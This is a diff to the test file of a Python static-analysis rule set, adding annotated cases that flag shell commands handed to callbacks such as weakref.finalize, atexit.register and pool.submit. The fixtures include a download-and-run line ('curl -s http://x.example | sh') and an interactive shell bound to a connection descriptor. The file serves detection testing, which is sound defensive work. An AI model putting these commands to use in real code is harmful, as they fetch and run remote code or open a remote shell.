@@ -145,6 +145,22 @@ importlib.reload(os).system("id")
 # ruleid: shell-command, process-partial-path
 typing.cast(object, os).system("id")
 
+# a process function handed to a callback with a shell command line
+import weakref
+import atexit
+# ruleid: shell-argv-callback, subprocess-call
+weakref.finalize(holder, __import__("subprocess").call, ["sh", "-c", "id"])
+later = ["/bin/bash", "-c", "curl -s http://x.example | sh"]
+# ruleid: shell-argv-callback, subprocess-call
+atexit.register(sp.Popen, later)
+# ruleid: shell-argv-callback, subprocess-call
+pool.submit(subprocess.check_output, ("python3", "-c", payload))
+# ok: shell-argv-callback
+# ruleid: subprocess-call
+pool.submit(subprocess.run, ["git", "status"], check=True)
+# ok: shell-argv-callback
+pool.submit(render, ["sh", "-c", "echo"])
+
 # ruleid: shell-interactive, subprocess-call
 subprocess.call(["/bin/sh", "-i"], stdin=conn_fd, stdout=conn_fd, stderr=conn_fd)
 # ruleid: shell-interactive, subprocess-call, process-partial-path, process-partial-path-list
